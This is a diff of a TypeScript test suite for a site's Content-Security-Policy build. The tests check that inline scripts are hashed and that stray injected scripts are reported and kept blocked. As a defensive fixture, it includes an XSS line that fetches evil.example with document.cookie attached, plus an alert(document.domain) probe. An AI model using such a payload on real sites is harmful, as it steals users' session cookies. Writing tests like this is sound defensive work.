@@ -9,7 +9,6 @@ import {
   layoutScripts,
   pageScriptHashes,
   scriptHash,
-  UnexpectedInlineScriptError,
   withMetaPolicy,
 } from '@/lib/site/csp'
 import { routeOfHtmlFile } from '@/lib/site/csp-build'
@@ -143,7 +142,8 @@ describe('inline script hashes', () => {
 
   test('every executable inline script of a page is hashed, exactly as the browser hashes it', () => {
     const html = page('<p>글</p><script type="application/ld+json">{"@type":"BlogPosting"}</script>')
-    const hashes = pageScriptHashes(html, { file: 'blog/x.html', layout })
+    const { hashes, rejected } = pageScriptHashes(html, { file: 'blog/x.html', layout })
+    expect(rejected).toEqual([])
     expect(hashes).toHaveLength(4)
     expect(hashes[0]).toBe(scriptHash(THEME))
     // echo -n 'alert(1)' | openssl sha256 -binary | base64
@@ -154,15 +154,16 @@ describe('inline script hashes', () => {
     expect(isExecutable({ attributes: ' type="module"' })).toBe(true)
   })
 
-  test('a <script> from anywhere else stops the build with the file, line and script', () => {
-    const html = page('<p>글</p>\n<script>fetch("https://evil.example/?c="+document.cookie)</script>')
-    expect(() => pageScriptHashes(html, { file: 'out/blog/x.html', layout })).toThrow(UnexpectedInlineScriptError)
-    expect(() => pageScriptHashes(html, { file: 'out/blog/x.html', layout })).toThrow(
-      /out\/blog\/x\.html:2: an inline <script>[\s\S]*evil\.example/,
-    )
+  test('a <script> from anywhere else is not hashed, and is reported with the file, line and script', () => {
+    const evil = 'fetch("https://evil.example/?c="+document.cookie)'
+    const html = page(`<p>글</p>\n<script>${evil}</script>`)
+    const { hashes, rejected } = pageScriptHashes(html, { file: 'out/blog/x.html', layout })
+    expect(hashes).not.toContain(scriptHash(evil))
+    expect(hashes).toHaveLength(4)
+    expect(rejected).toEqual([`out/blog/x.html:2: <script>${evil}</script>`])
     // The theme script's shape with other code is not the theme script.
     const lookalike = page(`<script>${THEME.replace('add', 'remove')}</script>`)
-    expect(() => pageScriptHashes(lookalike, { file: 'x.html', layout })).toThrow(UnexpectedInlineScriptError)
+    expect(pageScriptHashes(lookalike, { file: 'x.html', layout }).rejected).toHaveLength(1)
   })
 
   test('a <script> inside a comment or <style> is not a script', () => {
@@ -237,5 +238,65 @@ describe('the proxy side: a policy per page from the manifest', () => {
     expect(error).toHaveBeenCalledOnce()
     expect(String(error.mock.calls[0][0])).toContain('npm run build')
     error.mockRestore()
+  })
+})
+
+describe('the CSP build step', () => {
+  async function scratch(files: Record<string, string>) {
+    const { mkdirSync, mkdtempSync, writeFileSync } = await import('node:fs')
+    const { tmpdir } = await import('node:os')
+    const { dirname, join } = await import('node:path')
+    const dir = mkdtempSync(join(tmpdir(), 'csp-build-'))
+    for (const [file, text] of Object.entries(files)) {
+      mkdirSync(dirname(join(dir, file)), { recursive: true })
+      writeFileSync(join(dir, file), text)
+    }
+    return dir
+  }
+  const EVIL = 'alert(document.domain)'
+
+  test('next start: a manifest of every page; a stray script is reported and left blocked, the rest still written', async () => {
+    const { readFileSync } = await import('node:fs')
+    const dist = await scratch({
+      'server/app/_not-found.html': page('<h1>404</h1>'),
+      'server/app/index.html': page('<p>home</p>'),
+      'server/app/blog/글.html': page(`<p>post</p>\n\n<script>${EVIL}</script>`),
+      'prerender-manifest.json': JSON.stringify({
+        routes: { '/': {}, '/_not-found': {}, '/feed.xml': {} },
+        dynamicRoutes: { '/blog/[...slug]': {} },
+      }),
+      'app-path-routes-manifest.json': JSON.stringify({
+        '/page': '/',
+        '/_not-found/page': '/_not-found',
+        '/blog/[...slug]/page': '/blog/[...slug]',
+        '/feed.xml/route': '/feed.xml',
+        '/account/page': '/account',
+      }),
+    })
+    const { buildManifest } = await import('@/lib/site/csp-build')
+    const { problems } = buildManifest(dist)
+    const manifest = JSON.parse(readFileSync(`${dist}/csp-manifest.json`, 'utf8'))
+    expect(Object.keys(manifest.pages).sort()).toEqual(['/', '/_not-found', '/blog/글'])
+    expect(manifest.files).toContain('/feed.xml')
+    expect(manifest.pages['/blog/글']).toContain(scriptHash(THEME))
+    expect(manifest.pages['/blog/글']).not.toContain(scriptHash(EVIL))
+    expect(problems).toEqual([
+      expect.stringMatching(/^app\/account\/page\.tsx renders on each request/),
+      `${dist}/server/app/blog/글.html:3: <script>${EVIL}</script>`,
+    ])
+  })
+
+  test('export: each page gets its <meta> with its own hashes', async () => {
+    const { readFileSync } = await import('node:fs')
+    const out = await scratch({ '404.html': page('<h1>404</h1>'), 'index.html': page('<p>home</p>'), 'blog/x.html': page('<p>x</p>') })
+    const { addMetaPolicies } = await import('@/lib/site/csp-build')
+    expect(addMetaPolicies(out).problems).toEqual([])
+    for (const file of ['404.html', 'index.html', 'blog/x.html']) {
+      const html = readFileSync(`${out}/${file}`, 'utf8')
+      const meta = /<meta http-equiv="Content-Security-Policy" content="([^"]*)"\/>/.exec(html)?.[1] ?? ''
+      expect(meta, file).toContain(scriptHash(THEME))
+      expect(meta, file).not.toContain('frame-ancestors')
+      expect(html.indexOf('http-equiv'), file).toBeLessThan(html.indexOf('<script'))
+    }
   })
 })
